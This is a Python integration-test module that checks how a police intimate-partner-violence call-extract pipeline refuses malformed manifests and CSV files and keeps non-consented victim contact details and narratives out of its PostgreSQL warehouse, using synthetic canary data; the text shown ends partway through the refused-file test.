"""A catalogue of bad extract files, and of valid-but-unusual ones, with the exact outcome of each.

Every case goes through `upstream.ingest.load_extract` against the session's PostgreSQL:

* refused files: `RefusedFile` (or `ManifestMissing`) with a message naming the problem, nothing
  in core/contact changed, the refusal recorded (for files that got past the manifest), no
  value of the file in the message or anywhere in the warehouse, no staging table left;
* quarantined rows: exactly which row numbers with which rule names land in ops.quarantine_row,
  the good rows of the same file loaded with exactly the values they had in the file;
* valid-but-unusual files: loaded untouched (zero quarantine, values round-trip exactly).

The module shares one warehouse state (module-scoped `env`, a baseline day loaded once) and gives
every case its own extract day, so that the GX-backed loads stay few: the row-level faults are
all in one file (with the quarantine limit raised for that load), and the default 5 % limit is
tested on its own. Each load gets a fresh GX project directory: measured, that keeps a load at
~2 s, where one shared project slows down as its validation results and Data Docs pile up.

Canaries: CANARY is the only name/contact value of every row that must not keep its contact
details (non-consented, quarantined or refused); NARRATIVE_CANARY is in narratives, which are never
stored. Neither may appear in any table outside staging, in an error message or in GX's files.
"""

from __future__ import annotations

import csv
import gzip
import hashlib
import io
import itertools
import json
import random
import re
from collections import Counter
from collections.abc import Callable, Iterator, Mapping, Sequence
from dataclasses import dataclass
from datetime import UTC, date, datetime, time, timedelta
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import psycopg
import pytest
from psycopg import sql
from psycopg.rows import dict_row

from upstream.contract import COLUMNS, REQUIRED_COLUMNS
from upstream.dev import generate
from upstream.ingest import (
    LoadResult,
    ManifestMissing,
    RefusedFile,
    load_extract,
    pseudonym,
    verify_manifest,
)
from upstream.rules import RULES_BY_NAME
from upstream.settings import Settings, load_settings, pseudonym_key

pytestmark = pytest.mark.integration

TZ = ZoneInfo("America/Toronto")
AGENCY = "WPS"
CANARY = "CANARYNAME123"
NARRATIVE_CANARY = "NARRCANARY987"
FIELDS: tuple[str, ...] = tuple(COLUMNS)
OPTIONAL_FIELDS = tuple(c for c in FIELDS if c not in REQUIRED_COLUMNS)
WAREHOUSE_TABLES = (
    "ops.quarantine_row", "contact.victim_contact", "core.call", "core.call_version",
    "ops.extract_file",
)  # fmt: skip
SYSTEM_SCHEMAS = ("pg_catalog", "information_schema", "pg_toast")
DELETE = object()  # manifest override: drop the key

assert generate.COLUMNS == FIELDS, "generate.py and the contract disagree on the column order"


# ---------------------------------------------------------------------------------------------
# Environment


@dataclass(frozen=True)
class Env:
    settings: Settings
    url: str
    gx_root: Path


@pytest.fixture(scope="module")
def env(warehouse_url: str, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Env]:
    """One warehouse state for the module (emptied once), an empty landing area, default limits."""
    home = tmp_path_factory.mktemp("bad-inputs")
    with pytest.MonkeyPatch.context() as mp:
        mp.setenv("UPSTREAM_HOME", str(home))
        mp.setenv("UPSTREAM_DATABASE_URL", warehouse_url)
        mp.setenv("UPSTREAM_LANDING_DIR", str(home / "landing"))
        mp.setenv("UPSTREAM_GX_DIR", str(home / "gx"))
        mp.setenv("UPSTREAM_PSEUDONYM_KEY", "bad-inputs-pseudonym-key")
        mp.setenv("UPSTREAM_AGENCIES", AGENCY)
        for name in ("UPSTREAM_QUARANTINE_MAX_SHARE", "UPSTREAM_QUARANTINE_WARN_SHARE"):
            mp.delenv(name, raising=False)
        truncate_warehouse(warehouse_url)
        settings = load_settings()
        assert settings.validate.quarantine_max_share == 0.05
        yield Env(settings, warehouse_url, settings.validate.gx_dir)


def warehouse_tables(conn: psycopg.Connection) -> list[str]:
    """Every table of the warehouse outside staging and public (later migrations included)."""
    return [f"{r['table_schema']}.{r['table_name']}" for r in conn.execute(
        "SELECT table_schema, table_name FROM information_schema.tables"
        " WHERE table_type = 'BASE TABLE' AND table_schema <> ALL(%s)"
        " AND table_schema NOT IN ('staging', 'public') AND table_schema NOT LIKE 'pg_temp%%'"
        " ORDER BY 1, 2", (list(SYSTEM_SCHEMAS),))]


def truncate_warehouse(url: str) -> None:
    with psycopg.connect(url, autocommit=True, row_factory=dict_row) as conn:
        tables = warehouse_tables(conn)
        assert set(WAREHOUSE_TABLES) <= set(tables)
        # replica role, as in conftest: append-only audit triggers do not fire for a test reset
        conn.execute("SET session_replication_role = replica")
        conn.execute(sql.SQL("TRUNCATE {} RESTART IDENTITY CASCADE").format(
            sql.SQL(", ").join(sql.Identifier(*t.split(".")) for t in tables)))


_gx_runs = itertools.count()


def load(env: Env, d: date, **settings_changes: Any) -> LoadResult:
    """load_extract with a fresh GX project directory (see the module docstring)."""
    settings = env.settings.with_changes(validate__gx_dir=env.gx_root / f"run-{next(_gx_runs)}", **settings_changes)
    return load_extract(AGENCY, d, settings)


def connect(env: Env) -> psycopg.Connection:
    return psycopg.connect(env.url, row_factory=dict_row, autocommit=True)


# ---------------------------------------------------------------------------------------------
# Rows


def generated_at(d: date) -> datetime:
    return datetime.combine(d + timedelta(days=1), time(1, 5), TZ)


def call_at(d: date, n: int) -> datetime:
    return datetime.combine(d, time(6, 0), TZ) + timedelta(minutes=3 * n)


def incident(d: date, n: int) -> str:
    return f"{AGENCY}-{d:%Y%m%d}-{n:04d}"


def _apply(row: dict[str, Any], over: Mapping[str, Any]) -> dict[str, Any]:
    for key, value in over.items():
        row[key] = value(row) if callable(value) else value
    return row


def declined_row(d: date, n: int, **over: Any) -> dict[str, Any]:
    """Valid, not charged, consent declined; contact fields filled (as RMS rows often are) with
    the canary: they must be dropped."""
    call = call_at(d, n)
    row: dict[str, Any] = dict.fromkeys(FIELDS)
    row.update(
        agency_code=AGENCY, incident_id=incident(d, n), record_version=1,
        call_received_at=call, cleared_at=call + timedelta(hours=2), call_source="911",
        call_type="ipv_threats", patrol_zone="Z3",
        clearance_status="cleared_otherwise_departmental_discretion", charges_laid=0,
        relationship="former_dating", weapon="none", injury_level="none",
        children_present=False, substance_involved=True, consent_status="declined",
        consent_recorded_at=call + timedelta(hours=1), consent_officer_id=None,
        victim_person_id=f"MNI-{d:%y%m%d}{n:04d}", accused_person_id=f"MNI-X{d:%y%m%d}{n:04d}",
        address_id=f"ADDR-{n:06d}",
        victim_given_name=CANARY, victim_family_name=CANARY, victim_birth_year=1988,
        victim_phone="+15195550142", victim_email=f"{CANARY.lower()}@example.com",
        victim_safe_contact_notes=f"ask for {CANARY}", victim_postal_code="N9A 1A1",
        responding_officer_id="W1037",
        narrative=f"{NARRATIVE_CANARY}: caller reported shouting next door, neighbours concerned.",
    )  # fmt: skip
    return _apply(row, over)


def given_row(d: date, n: int, given: str = "Amélie", family: str = "Gagnon",
              **over: Any) -> dict[str, Any]:
    """Valid, not charged, consent given with complete contact details (kept)."""
    row = declined_row(d, n)
    call = row["call_received_at"]
    row.update(
        clearance_status="cleared_otherwise_complainant_request", consent_status="given",
        consent_recorded_at=call + timedelta(minutes=50), consent_officer_id="W2044",
        victim_given_name=given, victim_family_name=family, victim_birth_year=1990,
        victim_phone="+15195550199", victim_email="a.gagnon@example.ca",
        victim_preferred_contact="phone",
        victim_safe_contact_notes="weekday mornings only, no voicemail",
        victim_language="fr", victim_postal_code="N9B 2C3",
    )  # fmt: skip
    return _apply(row, over)


def charged_row(d: date, n: int, **over: Any) -> dict[str, Any]:
    """Valid, cleared by charge (consent not applicable); contact fields filled: dropped."""
    row = declined_row(d, n)
    row.update(clearance_status="cleared_by_charge", charges_laid=2, call_type="ipv_assault",
               weapon="physical_force", injury_level="minor", consent_status="not_applicable",
               consent_recorded_at=None)
    return _apply(row, over)


def not_asked_row(d: date, n: int, **over: Any) -> dict[str, Any]:
    """Valid, not cleared (no cleared_at), consent not asked."""
    row = declined_row(d, n)
    row.update(clearance_status="not_cleared", cleared_at=None, consent_status="not_asked",
               consent_recorded_at=None, substance_involved=None)
    return _apply(row, over)


KINDS: dict[str, Callable[..., dict[str, Any]]] = {
    "declined": declined_row, "given": lambda d, n: given_row(d, n, CANARY, CANARY),
    "charged": charged_row, "not_asked": not_asked_row,
}  # fmt: skip


def filler_rows(d: date, count: int, seed: int, prefix: str = "F") -> list[dict[str, Any]]:
    """Varied valid rows from the project's generator (some consented, some charged)."""
    rng = random.Random(seed)
    return [
        generate.make_row(rng, AGENCY, f"{AGENCY}-{d:%Y%m%d}-{prefix}{k:04d}",
                          datetime.combine(d, time(6, 0), TZ) + timedelta(minutes=4 * k))
        for k in range(count)
    ]


# ---------------------------------------------------------------------------------------------
# Writing deliveries


def fmt(value: Any) -> str:
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, (datetime, date)):
        return value.isoformat()
    return str(value)


def render(rows: Sequence[Mapping[str, Any]], columns: Sequence[str] = FIELDS, *,
           line_ending: str = "\n", quoting: int = csv.QUOTE_MINIMAL, delimiter: str = ",",
           header: bool = True) -> bytes:
    buf = io.StringIO(newline="")
    writer = csv.writer(buf, lineterminator=line_ending, quoting=quoting, delimiter=delimiter)
    if header:
        writer.writerow(columns)
    writer.writerows([fmt(r.get(c)) for c in columns] for r in rows)
    return buf.getvalue().encode("utf-8")


def paths(s: Settings, d: date) -> tuple[Path, Path]:
    folder = s.landing.dir / AGENCY
    folder.mkdir(parents=True, exist_ok=True)
    stem = f"{AGENCY}_ipv_calls_{d.isoformat()}"
    return folder / f"{stem}.csv", folder / f"{stem}.manifest.json"


def manifest_doc(d: date, data: bytes, rows: int, /, **overrides: Any) -> dict[str, Any]:
    doc: dict[str, Any] = {
        "extract_version": "1", "agency_code": AGENCY, "extract_date": d.isoformat(),
        "file": f"{AGENCY}_ipv_calls_{d.isoformat()}.csv", "rows": rows,
        "sha256": hashlib.sha256(data).hexdigest(), "generated_at": generated_at(d).isoformat(),
    }  # fmt: skip
    for key, value in overrides.items():
        if value is DELETE:
            doc.pop(key, None)
        else:
            doc[key] = value
    return doc


def deliver(s: Settings, d: date, data: bytes | None, rows: int, /, *, manifest: bool = True,
            manifest_bytes: bytes | None = None, sha_of: bytes | None = None,
            **overrides: Any) -> None:
    """Write raw data bytes (None: no data file), then the manifest describing `sha_of` (default:
    the data itself) unless manifest_bytes are given verbatim."""
    csv_path, manifest_path = paths(s, d)
    if data is not None:
        csv_path.write_bytes(data)
    if manifest_bytes is not None:
        manifest_path.write_bytes(manifest_bytes)
    elif manifest:
        doc = manifest_doc(d, data if sha_of is None else sha_of, rows, **overrides)
        manifest_path.write_text(json.dumps(doc, ensure_ascii=False))


def write_rows(s: Settings, d: date, rows: Sequence[Mapping[str, Any]], **kwargs: Any) -> None:
    """The project's writer (upstream.dev.generate.write_extract) for well-formed deliveries."""
    kwargs.setdefault("generated_at", generated_at(d))
    generate.write_extract(s.landing.dir, AGENCY, d, rows, **kwargs)


# ---------------------------------------------------------------------------------------------
# Inspecting the warehouse


def snapshot(conn: psycopg.Connection) -> dict[str, list[dict[str, Any]]]:
    """Full contents of the tables a refused file must not touch."""
    out = {}
    for table in ("core.call", "core.call_version", "contact.victim_contact"):
        schema, name = table.split(".")
        out[table] = conn.execute(sql.SQL(
            "SELECT * FROM {} ORDER BY agency_code, incident_id, file_id"
        ).format(sql.Identifier(schema, name))).fetchall()
    return out


def staging_tables(conn: psycopg.Connection) -> int:
    return conn.execute(
        "SELECT count(*) AS n FROM pg_tables WHERE schemaname = 'staging'").fetchone()["n"]


def find_text(conn: psycopg.Connection, needle: str) -> list[str]:
    """Text-like columns (schema.table.column) of every table outside staging (core, ops,
    contact, routing, public, ...) holding `needle` anywhere, case-insensitively."""
    cols = conn.execute(
        "SELECT c.table_schema, c.table_name, c.column_name FROM information_schema.columns c"
        " JOIN information_schema.tables t USING (table_schema, table_name)"
        " WHERE t.table_type = 'BASE TABLE' AND c.table_schema <> ALL(%s)"
        " AND c.table_schema <> 'staging' AND c.table_schema NOT LIKE 'pg_temp%%'"
        " AND c.data_type IN ('text', 'character varying', 'character', 'ARRAY', 'json',"
        " 'jsonb', 'USER-DEFINED')", (list(SYSTEM_SCHEMAS),)).fetchall()
    assert {"core", "ops", "contact"} <= {c["table_schema"] for c in cols}
    hits = []
    for c in cols:
        query = sql.SQL("SELECT count(*) AS n FROM {} WHERE {}::text ILIKE %s").format(
            sql.Identifier(c["table_schema"], c["table_name"]), sql.Identifier(c["column_name"]))
        if conn.execute(query, (f"%{needle}%",)).fetchone()["n"]:
            hits.append(f"{c['table_schema']}.{c['table_name']}.{c['column_name']}")
    return hits


def files_containing(root: Path, needle: str) -> list[str]:
    """Files under root (GX project: results, Data Docs) whose bytes contain needle."""
    if not root.exists():
        return []
    return sorted(str(p) for p in root.rglob("*")
                  if p.is_file() and needle.encode() in p.read_bytes())


def extract_files(conn: psycopg.Connection, d: date) -> list[dict[str, Any]]:
    return conn.execute(
        "SELECT file_id, status, reason, rows_in_file, rows_loaded, rows_quarantined, rows_stale,"
        " unknown_columns FROM ops.extract_file WHERE agency_code = %s AND extract_date = %s"
        " ORDER BY file_id", (AGENCY, d)).fetchall()


def quarantine(conn: psycopg.Connection, file_id: int) -> set[tuple[int, str | None, str, str]]:
    return {(r["row_number"], r["incident_id"], r["rule"], r["column_name"])
            for r in conn.execute(
                "SELECT row_number, incident_id, rule, column_name FROM ops.quarantine_row"
                " WHERE file_id = %s", (file_id,))}


def _text(value: Any) -> str | None:
    s = fmt(value)
    return s if s != "" else None


def _ts(value: Any) -> datetime | None:
    s = _text(value)
    return datetime.fromisoformat(s) if s is not None else None


def _int(value: Any) -> int | None:
    s = _text(value)
    return int(s) if s is not None else None


def _bool(value: Any) -> bool | None:
    s = _text(value)
    return None if s is None else {"true": True, "false": False}[s]


def expected_call(row: Mapping[str, Any], key: bytes) -> dict[str, Any]:
    """The core.call values a valid row must produce (pseudonyms computed in Python)."""
    agency = row["agency_code"]
    accused = _text(row.get("accused_person_id"))
    out: dict[str, Any] = {
        "record_version": _int(row["record_version"]),
        "charges_laid": _int(row["charges_laid"]),
        "children_present": _bool(row["children_present"]),
        "substance_involved": _bool(row.get("substance_involved")),
        "victim_key": pseudonym(key, "person", agency, _text(row["victim_person_id"])),
        "accused_key": pseudonym(key, "person", agency, accused) if accused else None,
        "address_key": pseudonym(key, "address", agency, _text(row["address_id"])),
    }
    for col in ("call_received_at", "cleared_at", "consent_recorded_at"):
        out[col] = _ts(row.get(col))
    for col in ("agency_code", "incident_id", "call_source", "call_type", "patrol_zone",
                "clearance_status", "relationship", "weapon", "injury_level", "consent_status",
                "consent_officer_id", "responding_officer_id"):
        out[col] = _text(row.get(col))
    return out


def expected_contact(row: Mapping[str, Any]) -> dict[str, Any]:
    return {
        "record_version": _int(row["record_version"]),
        "given_name": _text(row.get("victim_given_name")),
        "family_name": _text(row.get("victim_family_name")),
        "birth_year": _int(row.get("victim_birth_year")),
        "phone": _text(row.get("victim_phone")),
        "email": _text(row.get("victim_email")),
        "preferred_contact": _text(row.get("victim_preferred_contact")),
        "safe_contact_notes": _text(row.get("victim_safe_contact_notes")),
        "language": _text(row.get("victim_language")) or "en",
        "postal_code": _text(row.get("victim_postal_code")),
    }


def assert_stored_exactly(conn: psycopg.Connection, rows: Sequence[Mapping[str, Any]],
                          file_id: int, d: date) -> None:
    """Each row is the current call, from this file, with exactly its values; contact details
    exist for exactly the consented rows and equal the input."""
    key = pseudonym_key()
    ids = [_text(r["incident_id"]) for r in rows]
    assert len(set(ids)) == len(ids)
    stored = {r["incident_id"]: r for r in conn.execute(
        "SELECT * FROM core.call WHERE agency_code = %s AND incident_id = ANY(%s)", (AGENCY, ids))}
    contacts = {r["incident_id"]: r for r in conn.execute(
        "SELECT * FROM contact.victim_contact WHERE agency_code = %s AND incident_id = ANY(%s)",
        (AGENCY, ids))}
    assert sorted(stored) == sorted(ids)
    for row in rows:
        got = stored[_text(row["incident_id"])]
        want = expected_call(row, key)
        assert {k: got[k] for k in want} == want, row["incident_id"]
        assert (got["file_id"], got["extract_date"]) == (file_id, d)
        contact = contacts.get(_text(row["incident_id"]))
        if _text(row["consent_status"]) == "given":
            assert contact is not None, row["incident_id"]
            want_c = expected_contact(row)
            assert {k: contact[k] for k in want_c} == want_c, row["incident_id"]
            assert contact["file_id"] == file_id
        else:
            assert contact is None, f"contact kept for non-consented {row['incident_id']}"


def assert_no_leak(env: Env, conn: psycopg.Connection, *texts: str) -> None:
    for needle in (CANARY, NARRATIVE_CANARY):
        assert find_text(conn, needle) == [], f"{needle} persisted"
        assert files_containing(env.gx_root, needle) == [], f"{needle} in GX files"
        for text in texts:
            assert needle not in (text or "")
    assert staging_tables(conn) == 0


# ---------------------------------------------------------------------------------------------
# Baseline: one good day, so that "nothing changed" is checked against non-empty tables

BASE_DAY = date(2024, 5, 1)


def baseline_rows() -> list[dict[str, Any]]:
    d = BASE_DAY
    return [
        declined_row(d, 1), given_row(d, 2), charged_row(d, 3), not_asked_row(d, 4),
        # Version 2 of two incidents (the stale test later delivers older / equal versions).
        given_row(d, 5, "Chloé", "Côté", incident_id="WPS-STALE-1", record_version=2),
        charged_row(d, 6, incident_id="WPS-STALE-2", record_version=2, charges_laid=1),
    ]


@pytest.fixture(scope="module")
def baseline(env: Env) -> LoadResult:
    rows = baseline_rows()
    write_rows(env.settings, BASE_DAY, rows)
    result = load(env, BASE_DAY)
    assert (result.outcome, result.rows_loaded, result.rows_quarantined) == ("loaded", 6, 0)
    with connect(env) as conn:
        assert_stored_exactly(conn, rows, result.file_id, BASE_DAY)
    return result


# ---------------------------------------------------------------------------------------------
# Refused files


def small_rows(d: date) -> list[dict[str, Any]]:
    """Three valid rows, every name the canary (nothing of a refused file may be kept)."""
    return [declined_row(d, 1), KINDS["given"](d, 2), charged_row(d, 3, narrative=None)]


def good(d: date, **render_kwargs: Any) -> bytes:
    return render(small_rows(d), **render_kwargs)


def _lines(data: bytes) -> list[bytes]:
    lines = data.split(b"\n")
    assert lines[-1] == b"" and len(lines) == 5  # header + 3 rows, no embedded line breaks
    return lines


def _flip_one_character(data: bytes) -> bytes:
    i = data.index(b"ipv_threats")
    return data[:i] + b"ipv_threatz" + data[i + len(b"ipv_threats"):]


def _truncated_mid_quote(d: date) -> bytes:
    data = good(d)
    # The first row's narrative is quoted (it holds commas): cut inside it.
    start = data.index(f'"{NARRATIVE_CANARY}'.encode())
    return data[: start + 12]


def _drop_last_field(d: date) -> bytes:
    lines = _lines(good(d))
    assert lines[3].endswith(b",")  # the charged row: narrative empty
    lines[3] = lines[3][:-1]
    return b"\n".join(lines)


def _extra_field(d: date) -> bytes:
    lines = _lines(good(d))
    lines[3] = lines[3] + b",surplus"
    return b"\n".join(lines)


def _blank_line_between_rows(d: date) -> bytes:
    lines = _lines(good(d))
    return b"\n".join([*lines[:2], b"", *lines[2:]])


def _mixed_line_endings(d: date) -> bytes:
    lines = _lines(good(d))
    return lines[0] + b"\r\n" + b"\n".join(lines[1:])


def _latin1_name(d: date) -> bytes:
    return good(d).replace(f",{CANARY},{CANARY},".encode(), ",Zo\xeb,Tremblay,".encode("latin-1"), 1)


def _nul_byte(d: date) -> bytes:
    return good(d).replace(b"W1037", b"W10\x0037", 1)


def _stray_quote(d: date) -> bytes:
    return good(d).replace(b",W1037,", b',W10"37,', 1)


def _bad_header_byte(d: date) -> bytes:
    return good(d).replace(b"narrative", b"narrativ\xe9", 1)


def _long_header(d: date) -> bytes:
    return render(small_rows(d), (*FIELDS, "x" * 70_000))


def _recanary(rows: list[dict[str, Any]], tag: str) -> list[dict[str, Any]]:
    """The rows with this case's own canaries (a case that leaks by a known bug must not spoil
    the module-wide canary checks of the cases after it)."""
    return [{k: v.replace(CANARY, f"{tag}NAME").replace(NARRATIVE_CANARY, f"{tag}NARR")
             if isinstance(v, str) else v for k, v in r.items()} for r in rows]


def _headerless_full_row(d: date) -> bytes:
    row = given_row(d, 1, "HEADLESSNAME", "HEADLESSNAME", children_present=False,
                    substance_involved=False, consent_officer_id="W1037",
                    responding_officer_id="W1037", accused_person_id="MNI-7001",
                    narrative="HEADLESSNARR at scene")
    assert all(fmt(v) for v in row.values())  # every field filled: no empty "column name"
    return render([row], header=False)


def _json_instead_of_csv(d: date) -> bytes:
    rows = _recanary(small_rows(d), "JSONLEAK")
    return json.dumps([{k: fmt(v) for k, v in r.items()} for r in rows]).encode()


HEADER_ECHO_BUG = ("ingest.read_header: when the first line is not a header (a JSON export, a "
                   "file without its header row), 'header repeats column(s): ...' quotes the "
                   "repeated cells, i.e. values from the file (names, narrative) go into the "
                   "message and ops.extract_file.reason")


@dataclass(frozen=True)
class Refusal:
    id: str
    write: Callable[[Settings, date], None]
    match: str                      # regex searched in the message, after "WPS <date>: "
    stage: str = "load"            # manifest: refused before the file is registered
    error: type[Exception] = RefusedFile
    bug: str | None = None
    secrets: tuple[str, ...] = ()   # this case's own canaries, besides the module's


def _m(**overrides: Any) -> Callable[[Settings, date], None]:
    """Good data, manifest with the given overrides."""
    return lambda s, d: deliver(s, d, good(d), 3, **overrides)


def _data(make: Callable[[date], bytes], rows: int = 3, **kw: Any) -> Callable[[Settings, date], None]:
    """Bytes from make(d) with a manifest matching them (sha256 right; rows as given)."""
    return lambda s, d: deliver(s, d, make(d), rows, **kw)


REFUSALS: list[Refusal] = [
    # --- the manifest -------------------------------------------------------------------------
    Refusal("manifest_missing", lambda s, d: deliver(s, d, good(d), 3, manifest=False),
            r"manifest WPS_ipv_calls_\S+\.manifest\.json has not arrived", "manifest",
            ManifestMissing),
    Refusal("manifest_without_data_file", lambda s, d: deliver(s, d, None, 3, sha_of=good(d)),
            r"manifest present but data file WPS_ipv_calls_\S+\.csv is missing", "manifest"),
    Refusal("manifest_not_json", _m(manifest_bytes=b"{'rows': 3, 'sha256': 'x'}"),
            r"manifest \S+ is not valid JSON \(JSONDecodeError\)", "manifest"),
    Refusal("manifest_truncated_json",
            lambda s, d: deliver(s, d, good(d), 3, manifest_bytes=json.dumps(
                manifest_doc(d, good(d), 3)).encode()[:60]),
            r"is not valid JSON \(JSONDecodeError\)", "manifest"),
    Refusal("manifest_utf16",
            lambda s, d: deliver(s, d, good(d), 3, manifest_bytes=json.dumps(
                manifest_doc(d, good(d), 3)).encode("utf-16")),
            r"is not valid JSON \(UnicodeDecodeError\)", "manifest"),
    Refusal("manifest_empty", _m(manifest_bytes=b""),
            r"is not valid JSON \(JSONDecodeError\)", "manifest"),
    Refusal("manifest_is_a_list", _m(manifest_bytes=b"[]"),
            r"manifest is not a JSON object$", "manifest"),
    Refusal("manifest_lacks_sha256", _m(sha256=DELETE), r"manifest lacks sha256$", "manifest"),
    Refusal("manifest_lacks_rows_and_generated_at", _m(rows=DELETE, generated_at=DELETE),
            r"manifest lacks rows, generated_at$", "manifest"),
    Refusal("manifest_extract_version_2", _m(extract_version="2"),
            r"manifest extract_version is not '1': this pipeline reads v1 only$", "manifest"),
    Refusal("manifest_wrong_agency", _m(agency_code="LPS"),
            r"manifest agency_code does not match the landing folder's agency$", "manifest"),
    Refusal("manifest_agency_lower_case", _m(agency_code="wps"),
            r"manifest agency_code does not match", "manifest"),
    Refusal("manifest_wrong_date", lambda s, d: deliver(
                s, d, good(d), 3, extract_date=(d - timedelta(days=1)).isoformat()),
            r"manifest extract_date does not match the file name's date$", "manifest"),
    Refusal("manifest_date_other_format", lambda s, d: deliver(
                s, d, good(d), 3, extract_date=d.strftime("%d/%m/%Y")),
            r"manifest extract_date does not match", "manifest"),
    Refusal("manifest_names_other_file", _m(file="WPS_ipv_calls_2024-01-01.csv"),
            r"manifest names another data file than WPS_ipv_calls_\S+\.csv$", "manifest"),
    Refusal("manifest_rows_negative", _m(rows=-1),
            r"manifest rows is not a non-negative integer$", "manifest"),
    Refusal("manifest_rows_string", _m(rows="3"),
            r"manifest rows is not a non-negative integer$", "manifest"),
    Refusal("manifest_rows_float", _m(rows=3.0),
            r"manifest rows is not a non-negative integer$", "manifest"),
    Refusal("manifest_rows_boolean", _m(rows=True),
            r"manifest rows is not a non-negative integer$", "manifest"),
    Refusal("manifest_sha256_not_hex", _m(sha256="z" * 64),
            r"manifest sha256 is not a 64-digit hex digest$", "manifest"),
    Refusal("manifest_sha256_is_md5", _m(sha256="0123456789abcdef" * 2),
            r"manifest sha256 is not a 64-digit hex digest$", "manifest"),
    Refusal("manifest_generated_at_without_offset", _m(generated_at="2024-07-02T01:05:00"),
            r"manifest generated_at is not an ISO 8601 timestamp with offset$", "manifest"),
    Refusal("manifest_generated_at_not_a_time", _m(generated_at="last night"),
            r"manifest generated_at is not an ISO 8601 timestamp with offset$", "manifest"),
    Refusal("manifest_generated_at_epoch_number", _m(generated_at=1719896700),
            r"manifest generated_at is not an ISO 8601 timestamp with offset$", "manifest"),
    Refusal("checksum_mismatch",
            lambda s, d: deliver(s, d, _flip_one_character(good(d)), 3, sha_of=good(d)),
            r"sha256 of the data file does not match the manifest "
            r"\(truncated or corrupted transfer\)$", "manifest"),
    Refusal("truncated_transfer",
            lambda s, d: deliver(s, d, good(d)[:-40], 3, sha_of=good(d)),
            r"sha256 of the data file does not match the manifest", "manifest"),
    # --- row count ----------------------------------------------------------------------------
    Refusal("row_count_manifest_says_more", _data(lambda d: good(d), rows=4),
            r"manifest says 4 rows, data file has 3 \(truncated or corrupted transfer\)$"),
    Refusal("row_count_manifest_says_fewer", _data(lambda d: good(d), rows=2),
            r"manifest says 2 rows, data file has 3 \(truncated or corrupted transfer\)$"),
    Refusal("truncated_at_row_boundary",
            _data(lambda d: b"\n".join(_lines(good(d))[:3]) + b"\n", rows=3),
            r"manifest says 3 rows, data file has 2 \(truncated or corrupted transfer\)$"),
    Refusal("header_only_but_manifest_says_rows", _data(lambda d: render([]), rows=3),
            r"manifest says 3 rows, data file has 0"),
    # --- bytes and CSV structure --------------------------------------------------------------
    Refusal("truncated_mid_quoted_field", _data(_truncated_mid_quote),
            r"data file ends inside a quoted field \(truncated file\?\) at line 2$"),
    Refusal("stray_quote_in_unquoted_field", _data(_stray_quote),
            r"data file ends inside a quoted field \(truncated file\?\) at line \d+$"),
    Refusal("more_fields_than_header", _data(_extra_field),
            r"data file has a row with more fields than the header at line 4$"),
    Refusal("fewer_fields_than_header", _data(_drop_last_field),
            r"data file has a row with fewer fields than the header at line 4$"),
    Refusal("blank_line_between_rows", _data(_blank_line_between_rows),
            r"data file has a row with fewer fields than the header at line 3$"),
    Refusal("trailing_blank_line", _data(lambda d: good(d) + b"\n"),
            r"data file has a row with fewer fields than the header at line 5$"),
    Refusal("mixed_line_endings", _data(_mixed_line_endings),
            r"data file mixes line endings outside quoted fields at line 2$"),
    Refusal("cr_only_line_endings", _data(lambda d: good(d).replace(b"\n", b"\r")),
            r"line end"),
    Refusal("invalid_utf8_in_row", _data(_latin1_name),
            r"data file is not valid UTF-8 \(or contains a NUL byte\) at line 2$"),
    Refusal("nul_byte_in_row", _data(_nul_byte),
            r"data file is not valid UTF-8 \(or contains a NUL byte\) at line 2$"),
    Refusal("invalid_utf8_in_header", _data(_bad_header_byte),
            r"header row is not valid UTF-8$"),
    Refusal("utf16_encoded_file", _data(lambda d: good(d).decode().encode("utf-16")),
            r"header row is not valid UTF-8$"),
    Refusal("gzip_compressed_file", _data(lambda d: gzip.compress(good(d), mtime=0)),
            r"header row is not valid UTF-8$"),
    Refusal("empty_file_0_bytes", _data(lambda d: b"", rows=0),
            r"data file is empty: not even a header row$"),
    Refusal("bom_only", _data(lambda d: b"\xef\xbb\xbf", rows=0),
            r"data file is empty: not even a header row$"),
    Refusal("blank_lines_only", _data(lambda d: b"\r\n\n", rows=0),
            r"data file is empty: not even a header row$"),
    # --- the header ---------------------------------------------------------------------------
    Refusal("missing_required_column",
            _data(lambda d: good(d, columns=[c for c in FIELDS if c != "patrol_zone"])),
            r"missing required column\(s\): patrol_zone$"),
    Refusal("missing_several_required_columns",
            _data(lambda d: good(d, columns=[c for c in FIELDS
                                             if c not in ("consent_status", "incident_id")])),
            r"missing required column\(s\): incident_id, consent_status$"),
    Refusal("header_in_other_case",
            _data(lambda d: good(d).replace(b"incident_id", b"Incident_ID", 1)),
            r"missing required column\(s\): incident_id$"),
    Refusal("header_repeats_column", _data(lambda d: good(d, columns=(*FIELDS, "weapon"))),
            r"header repeats column\(s\): weapon$"),
    Refusal("header_empty_column_name", _data(lambda d: good(d, columns=(*FIELDS, ""))),
            r"header row has an empty column name$"),
    Refusal("header_longer_than_64k", _data(_long_header),
            r"header row is longer than 64 KiB$"),
    Refusal("semicolon_separated", _data(lambda d: good(d, delimiter=";")),
            r"the file looks semicolon-delimited \(;\); the contract requires commas$"),
    Refusal("tab_separated", _data(lambda d: good(d, delimiter="\t")),
            r"the file looks tab-delimited \(\\t\); the contract requires commas$"),
    Refusal("pipe_separated", _data(lambda d: good(d, delimiter="|")),
            r"the file looks pipe-delimited \(\|\); the contract requires commas$"),
    Refusal("html_error_page_instead_of_csv",
            _data(lambda d: b"<html><body><h1>502 Bad Gateway</h1></body></html>\n", rows=0),
            r"missing required column\(s\): agency_code, incident_id, "),
    Refusal("json_instead_of_csv", _data(_json_instead_of_csv),
            r"(missing required column\(s\)|empty column name)", secrets=("JSONLEAKNAME", "JSONLEAKNARR")),
    Refusal("headerless_file", _data(lambda d: good(d, header=False), rows=3),
            r"missing required column\(s\): agency_code, incident_id"),
    Refusal("headerless_file_full_first_row", _data(_headerless_full_row, rows=1),
            r"^WPS \S+: (?!.*(W1037|false|MNI-|ADDR-))",
            secrets=("HEADLESSNAME", "HEADLESSNARR")),
]


@pytest.mark.parametrize(
    "case",
    [pytest.param(c, id=c.id, marks=[pytest.mark.xfail(strict=True, reason=f"bug: {c.bug}")]
                  if c.bug else []) for c in REFUSALS])
def test_refused_file(env: Env, baseline: LoadResult, case: Refusal) -> None:
    d = date(2023, 1, 1) + timedelta(days=REFUSALS.index(case))
    case.write(env.settings, d)
    with connect(env) as conn:
        before = snapshot(conn)
        assert before["core.call"], "baseline missing"
    with pytest.raises(case.error) as excinfo:
        load(env, d)
